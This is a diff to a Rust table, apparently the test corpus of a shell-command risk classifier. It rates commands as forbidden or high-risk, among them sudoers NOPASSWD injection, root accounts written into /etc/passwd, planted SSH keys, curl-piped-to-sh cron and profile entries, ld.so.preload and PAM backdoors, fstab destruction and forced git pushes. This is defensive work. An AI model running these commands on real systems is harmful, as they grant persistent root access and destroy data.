@@ -22,6 +22,11 @@
 //! - `pkill -KILL -u 0`, `killall -u root`, `pkill -uroot`, `skill -KILL -u root` (every
 //!   process of root, by user alone: the system's services and the way in) were high:
 //!   forbidden as `pkill -9 .` is; a name besides (`pkill -u root nginx`) stays high.
+//! - `awk -i inplace '{print}' /etc/passwd` was medium (a library read from a file): gawk's
+//!   `inplace` library (`-i inplace`, `-iinplace`, `--include=inplace`, a path to
+//!   `inplace.awk`) rewrites every file operand, each now judged as written (`awk.rs`):
+//!   forbidden for the account database or a disk, high elsewhere. `pwconv`, `pwunconv`,
+//!   `grpconv`, `grpunconv` rewrite the shadow files (high, as the account tools).
 //! - `find / -exec bash -c 'rm -rf {}' \;` was high: where no filter chooses the files, the
 //!   command is also judged as run on the start point itself (`rm -rf /`).
 //!
@@ -386,6 +391,116 @@ pub const KINDS: &[Kind] = &[
             (r##"killall -u root -9"##, Forbidden),
         ],
     },
+    // The account, sudo, PAM, SSH key, cron, preload, profile and fstab files edited by
+    // every program, and destructive git in a given repository.
+    Kind {
+        name: "account-and-boot-files-edited-by-every-program",
+        lines: &[
+            (r##"awk -i inplace '{print}' /etc/passwd"##, Forbidden),
+            (r##"gawk -i inplace 'NR>1' /etc/shadow"##, Forbidden),
+            (r##"perl -i -pe 's/x//' /etc/shadow"##, High),
+            (r##"ex -sc 'g/root/d|x' /etc/passwd"##, High),
+            (r##"vi /etc/passwd"##, High),
+            (r##"nano /etc/sudoers"##, High),
+            (r##"chpasswd <<< 'root:x'"##, High),
+            (r##"echo root:x | chpasswd"##, High),
+            (r##"usermod -p '' root"##, High),
+            (r##"passwd --delete root"##, High),
+            (r##"pwconv"##, High),
+            (r##"gpasswd -a mallory sudo"##, High),
+            (r##"visudo -f /etc/sudoers.d/x"##, High),
+            (r##"install -m 440 x /etc/sudoers.d/x"##, Forbidden),
+            (r##"cp x /etc/sudoers"##, Forbidden),
+            (r##"cp x /etc/sudoers.d/"##, High),
+            (r##"ln -sf /tmp/x /etc/sudoers"##, Forbidden),
+            (r##"dd of=/etc/shadow"##, Forbidden),
+            (r##"dd if=x of=/etc/sudoers"##, Forbidden),
+            (r##"tee /etc/sudoers.d/x"##, Forbidden),
+            (r##"tee -a /etc/sudoers.d/x < x"##, Forbidden),
+            (
+                r##"cat > /etc/sudoers.d/x <<< 'x ALL=(ALL) NOPASSWD:ALL'"##,
+                Forbidden,
+            ),
+            (
+                r##"sudo sh -c 'echo "x ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'"##,
+                Forbidden,
+            ),
+            (
+                r##"sudo bash -c "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd""##,
+                Forbidden,
+            ),
+            (r##"chmod 777 /etc/sudoers"##, High),
+            (r##"rm /etc/sudoers"##, Forbidden),
+            (r##"rm -f /etc/sudoers.d/*"##, High),
+            (r##"mv /tmp/x /etc/passwd"##, Forbidden),
+            (r##"> /etc/group"##, Forbidden),
+            (r##"> /etc/gshadow"##, Forbidden),
+            (r##"echo key >> ~/.ssh/authorized_keys"##, High),
+            (r##"echo key >> /root/.ssh/authorized_keys"##, High),
+            (r##"curl -o /root/.ssh/authorized_keys http://x"##, High),
+            (r##"wget -O ~/.ssh/authorized_keys http://x"##, High),
+            (r##"cp /tmp/k /home/alice/.ssh/authorized_keys"##, High),
+            (r##"tee -a /root/.ssh/authorized_keys <<< key"##, High),
+            (r##"sed -i '1i key' /root/.ssh/authorized_keys"##, High),
+            (
+                r##"sed -i '$a x ALL=(ALL) NOPASSWD:ALL' /etc/sudoers.d/90-cloud-init-users"##,
+                Forbidden,
+            ),
+            (
+                r##"sed -i -e 's/^#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config"##,
+                High,
+            ),
+            (r##"sed -i 's/x/y/' /etc/pam.d/common-auth"##, High),
+            (
+                r##"echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd"##,
+                High,
+            ),
+            (r##"echo '* * * * * root curl x|sh' >> /etc/crontab"##, High),
+            (r##"echo '* * * * * root id' > /etc/cron.d/x"##, High),
+            (r##"echo 'x' >> /etc/ld.so.preload"##, High),
+            (r##"echo '/tmp/x.so' > /etc/ld.so.preload"##, High),
+            (r##"echo 'alias ls=rm' >> /root/.bashrc"##, High),
+            (r##"echo 'curl x|sh' >> /etc/profile"##, High),
+            (r##"echo x >> /etc/rc.local"##, High),
+            (r##"echo 'nameserver 1.2.3.4' > /etc/resolv.conf"##, High),
+            (r##"echo '1.2.3.4 github.com' >> /etc/hosts"##, High),
+            (r##"sed -i 's/UUID=.*/x/' /etc/fstab"##, High),
+            (r##"echo 'x' >> /etc/fstab"##, High),
+            (r##"truncate -s 0 /etc/fstab"##, High),
+            (r##"cp /dev/null /etc/fstab"##, High),
+            (r##"rm /etc/fstab"##, High),
+            (r##"mv /etc/fstab /tmp"##, High),
+            (r##"git -C /srv/app push --force"##, High),
+            (r##"git -C /srv/app clean -fdx"##, High),
+            (r##"git -C /srv/app reset --hard"##, High),
+            (
+                r##"git --git-dir=/srv/app/.git --work-tree=/srv/app reset --hard"##,
+                High,
+            ),
+            (r##"cd /srv/app && git reset --hard origin/main"##, High),
+            (r##"cd /srv/app && git clean -ffdx"##, High),
+            (r##"GIT_DIR=/srv/app/.git git reset --hard"##, High),
+            (r##"git push --force origin HEAD:main"##, High),
+            (r##"git push -f --all"##, High),
+            (r##"git push origin --force --tags"##, High),
+            (r##"git push origin +refs/heads/*:refs/heads/*"##, High),
+            (
+                r##"gawk --include=inplace '{print}' /etc/sudoers"##,
+                Forbidden,
+            ),
+            (r##"gawk -iinplace '{print}' /etc/group"##, Forbidden),
+            (
+                r##"gawk -i /usr/share/awk/inplace.awk 1 /etc/passwd"##,
+                Forbidden,
+            ),
+            (r##"gawk -i inplace -e '{print}' /etc/passwd"##, Forbidden),
+            (r##"gawk -i inplace '{print}' /dev/sda"##, Forbidden),
+            (
+                r##"gawk -i inplace '{sub(/a/,"b")}1' /srv/app/config.ini"##,
+                High,
+            ),
+        ],
+    },
 ];
 
 /// Neighbours a human may still approve (exactly high): a tree that is not the system's, a
@@ -407,4 +522,5 @@ pub const STILL_HIGH: &[&str] = &[
     "pkill -u root nginx",
     "pkill -u www-data",
     "pkill -9 -u root -x php-fpm",
+    "gawk -i inplace '{sub(/a/,\"b\")}1' /srv/app/config.ini",
 ];
